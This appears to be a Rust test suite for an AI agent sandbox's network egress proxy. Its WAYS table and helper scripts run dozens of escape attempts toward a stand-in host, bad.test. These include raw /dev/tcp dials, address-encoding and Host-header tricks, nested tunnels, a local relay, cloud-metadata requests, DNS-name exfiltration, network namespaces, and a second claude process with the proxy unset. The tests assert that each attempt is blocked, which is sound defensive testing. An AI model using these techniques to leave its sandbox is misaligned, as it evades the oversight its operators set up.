//! Every way of asking that an agent could think of, and what came of it.

use super::record;
use super::sites::{Sites, as_agent, world};

/// What the ways share. `ask` says one thing to the proxy and gives the status; `through` says one thing in a tunnel to the
/// host that is allowed, and gives how many bytes come back; `dial` connects by itself.
const SHARED: &str = r#"
proxy=${HTTP_PROXY##*:}
ask() { exec 3<>/dev/tcp/127.0.0.1/$proxy; printf "$1" >&3; timeout 5 head -n 1 <&3 | cut -d' ' -f2; exec 3>&-; }
through() { exec 3<>/dev/tcp/127.0.0.1/$proxy; printf 'CONNECT good.test:443 HTTP/1.1\r\n\r\n' >&3
  timeout 5 head -n 2 <&3 >/dev/null; printf "$1" >&3; timeout 5 wc -c <&3; exec 3>&-; }
dial() { (exec 3<>$1 && echo x >&3 && echo sent) 2>/dev/null || echo no; }
get() { curl -sk -m 8 -o /dev/null -w '%{http_code}\n' "$@" || true; }
open() { perl -MSocket -e "socket(S, $1, $2, $3) ? print qq(open\n) : print qq(no\n)"; }
"#;

/// Each way, and all that may come of it.
const WAYS: &[(&str, &str, &[&str])] = &[
    ("plain HTTP", "get http://bad.test/", &["403"]),
    ("TLS", "get https://bad.test/", &["000"]),
    ("by itself, by name", "get --noproxy '*' http://bad.test/", &["000"]),
    ("by itself, by the address", "get --noproxy '*' http://127.0.0.1:PORT/", &["000"]),
    ("an address through the proxy", "get http://127.0.0.1:PORT/ --noproxy ''", &["403"]),
    ("a tunnel to an address", "ask 'CONNECT 127.0.0.1:PORT HTTP/1.1\\r\\n\\r\\n'", &["403"]),
    ("a decimal address", "ask 'CONNECT 2130706433:PORT HTTP/1.1\\r\\n\\r\\n'", &["403"]),
    ("a hexadecimal address", "ask 'CONNECT 0x7f000001:PORT HTTP/1.1\\r\\n\\r\\n'", &["403"]),
    ("an address of IPv6", "ask 'CONNECT [::ffff:127.0.0.1]:PORT HTTP/1.1\\r\\n\\r\\n'", &["403"]),
    ("where clouds have credentials", "get http://169.254.169.254/latest/meta-data/", &["403"]),
    ("the same by itself", "dial /dev/tcp/169.254.169.254/80", &["no"]),
    ("an odd port", "ask 'CONNECT good.test:8443 HTTP/1.1\\r\\n\\r\\n'", &["403"]),
    ("another user's host", "ask 'CONNECT good.test@bad.test:443 HTTP/1.1\\r\\n\\r\\n'", &["403"]),
    ("another Host", "get -H 'Host: bad.test' http://good.test/", &["400"]),
    (
        "two Hosts",
        "ask 'GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nHost: bad.test\\r\\n\\r\\n'",
        &["400"],
    ),
    ("TLS for another host", "get --connect-to bad.test:443:good.test:443 https://bad.test/", &["000"]),
    ("plain HTTP in a tunnel", "get -p http://good.test:443/", &["000"]),
    ("a tunnel in a tunnel", "through 'CONNECT bad.test:443 HTTP/1.1\\r\\n\\r\\n'", &["0"]),
    ("a relay in the machine", "relay", &["403"]),
    ("HTTP/2 to the proxy", "ask 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'", &["400", "505", ""]),
    ("SOCKS", "get --socks5-hostname 127.0.0.1:$proxy http://bad.test/", &["000"]),
    ("QUIC and whatever is UDP", "dial /dev/udp/192.0.2.1/443", &["no"]),
    ("IPv6", "dial /dev/tcp/2001:db8::1/443", &["no"]),
    ("a name that carries a secret", "getent hosts secret.bad.test || echo no", &["no"]),
    ("a name server, by UDP", "dial /dev/udp/192.0.2.53/53", &["no"]),
    ("a name server, by TCP", "dial /dev/tcp/192.0.2.53/53", &["no"]),
    ("names by HTTPS", "get 'https://dns.bad.test/dns-query?name=secret'", &["000"]),
    ("raw ICMP", "open 2 3 1", &["no"]),
    ("ICMP", "open 2 2 1", &["no"]),
    ("frames of the link", "open 17 3 768", &["no"]),
    ("vsock", "open 40 1 0", &["no"]),
    ("Bluetooth", "open 31 3 1", &["no"]),
    ("a network of its own", "unshare -rn true 2>/dev/null && echo made || echo no", &["no"]),
    ("a tunnel device", "ls /dev/net/tun 2>/dev/null || echo no", &["no"]),
    (
        "the door itself",
        "get --unix-socket /run/mayfly/orchestrator.sock http://x/v1/egress -H 'Upgrade: mayfly-egress'",
        &["401"],
    ),
];

/// Another program listens in the machine, and passes on to the proxy what it is told.
const RELAY: &str = r#"
relay() { perl -MIO::Socket::INET -e '
  $l = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1:7777") or die; print STDERR "";
  if (!fork) { $c = $l->accept; $p = IO::Socket::INET->new(PeerAddr => "127.0.0.1:'$proxy'");
    sysread $c, $b, 4096; syswrite $p, $b; sysread $p, $b, 4096; syswrite $c, $b; exit }
  $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1:7777");
  syswrite $c, "GET http://bad.test/ HTTP/1.1\r\nHost: bad.test\r\n\r\n"; sysread $c, $b, 4096; print substr($b, 9, 3), "\n"'; }
"#;

/// S18, S20, S23, S24, S62: none of these ways leads anywhere, and the host that is not allowed hears nothing.
#[tokio::test(flavor = "multi_thread")]
async fn no_way_of_asking_leads_elsewhere() {
    let sites = Sites::start(&["good.test", "bad.test"]).await;
    let Some(world) = world(&sites).await else { return };
    let port = sites.plain("bad.test").port().to_string();
    let ways: Vec<String> = WAYS.iter().map(|(_, way, _)| format!("echo \"$({way})\"\n")).collect();
    let script = format!("{SHARED}{RELAY}{}get https://good.test/", ways.concat()).replace("PORT", &port);
    let ended = as_agent(&world, &["--allow", "good.test"], &script).await;
    let said = ended.tool_results().concat();
    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(lines.len(), WAYS.len() + 1, "{said}");
    let through: Vec<_> =
        WAYS.iter().zip(&lines).filter(|((_, _, may), line)| !may.contains(&line.trim())).collect();
    assert!(through.is_empty(), "{through:#?}");
    assert_eq!(lines.last(), Some(&"200"), "the host that is allowed is there");
    assert_eq!(sites.requests(), ["good.test /"]);
    let task = ended.events[0]["task"].as_str().unwrap();
    let record = record(&world, task).await;
    for kept in [
        "denied bad.test:80 not-listed",
        "denied bad.test:443 not-listed",
        "denied 169.254.169.254:0 not-a-name",
        "denied good.test:8443 not-listed",
        "denied good.test:80 other-host",
        "denied good.test:443 other-name",
        "denied good.test:443 no-tls",
        "denied dns.bad.test:443 not-listed",
        "denied :0 bad-request",
    ] {
        assert!(record.iter().any(|line| line == kept), "{kept}: {record:#?}");
    }
    world.end().await;
}

/// S20: what is in TLS cannot be seen, and still comes to the host that is allowed and to no other.
#[tokio::test(flavor = "multi_thread")]
async fn another_host_within_tls_comes_to_the_one_that_is_allowed() {
    let sites = Sites::start(&["good.test", "bad.test"]).await;
    let Some(world) = world(&sites).await else { return };
    let ended =
        as_agent(&world, &["--allow", "good.test"], "curl -sk -m 20 -H 'Host: bad.test' https://good.test/")
            .await;
    assert_eq!(ended.tool_results().concat(), "good.test says /");
    assert_eq!(sites.requests(), ["good.test /"]);
    world.end().await;
}

/// S62: a second `claude` that is sent elsewhere is held by the same rules, by the proxy and without it.
#[tokio::test(flavor = "multi_thread")]
async fn a_second_claude_is_held_by_the_same_rules() {
    let sites = Sites::start(&["bad.test"]).await;
    let Some(world) = world(&sites).await else { return };
    let command = "mkdir -p /tmp/h; for with in '' '-u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy'; do \
        env -u CLAUDECODE $with HOME=/tmp/h CLAUDE_CONFIG_DIR=/tmp/h ANTHROPIC_BASE_URL=http://bad.test \
        ANTHROPIC_AUTH_TOKEN=secret CLAUDE_CODE_MAX_RETRIES=0 timeout 60 /opt/claude/claude -p hi --model sonnet \
        </dev/null >/dev/null 2>&1; echo \"ended $?\"; done";
    let ended = as_agent(&world, &[], command).await;
    let said = ended.tool_results().concat();
    assert_eq!(said.matches("ended").count(), 2, "{said}");
    assert!(!said.contains("ended 0"), "{said}");
    assert_eq!(sites.requests(), [""; 0]);
    assert_eq!(ended.own("denied").next().expect("told")["host"], "bad.test:80");
    world.end().await;
}
